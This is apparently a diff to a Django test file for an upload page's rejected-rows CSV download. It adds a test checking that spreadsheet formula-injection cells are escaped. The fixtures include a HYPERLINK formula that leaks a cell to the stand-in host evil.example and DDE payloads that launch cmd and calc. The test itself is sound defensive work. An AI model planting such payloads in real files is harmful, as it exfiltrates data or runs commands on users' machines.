@@ -1,5 +1,8 @@
 """The agents' upload page: who may use it, the dry-run preview, import for real, progress."""
 
+import csv
+import io
+
 import pytest
 from django.core.cache import cache
 from django.core.files.base import ContentFile
@@ -207,9 +210,42 @@ def test_the_rejected_rows_download_as_csv(login, agent):
     assert response.status_code == 200
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert 'filename="grille.rejected.csv"' in response["Content-Disposition"]
-    lines = response.content.decode("utf-8-sig").splitlines()
-    assert lines[0] == ";".join(["line", "reason", *HEADER])
-    assert lines[1].startswith("3;Bad date “demain”")
+    content = b"".join(response.streaming_content).decode("utf-8")
+    assert content.startswith("\ufeff")
+    lines = list(csv.reader(io.StringIO(content[1:]), delimiter=";"))
+    assert lines[0] == ["line", "reason", *HEADER]
+    assert lines[1][0] == "3"
+    assert lines[1][1].startswith("Bad date “demain”")
+    assert lines[1][2] == "MMD2000"
+
+
+def test_the_rejected_rows_download_escapes_cells_a_spreadsheet_would_run(login, agent):
+    # given
+    client = login(agent)
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
+    upload(
+        client,
+        grid(
+            [
+                row(titre=attack, date_debut="demain"),
+                row(sigle="MMD2000", titre="+cmd|' /C calc'!A0", presentateurs="@SUM(1+1)*cmd|x"),
+                row(sigle="MMD3000", titre="-2+3+cmd|' /C calc'!A0", approche="HYBRIDE"),
+            ],
+            delimiter=",",
+        ),
+    )
+    job = CourseGridImport.objects.get()
+
+    # when
+    response = client.get(reverse("imports:rejected", args=[job.pk]))
+
+    # then
+    content = b"".join(response.streaming_content).decode("utf-8-sig")
+    cells = [row for row in csv.reader(io.StringIO(content), delimiter=",")][1:]
+    titles = [r[2 + HEADER.index("titre")] for r in cells]
+    assert "'" + attack in titles
+    assert "'-2+3+cmd|' /C calc'!A0" in titles
+    assert all(not cell.startswith(("=", "+", "-", "@")) for r in cells for cell in r)
 
 
 # Large files ------------------------------------------------------------------------------
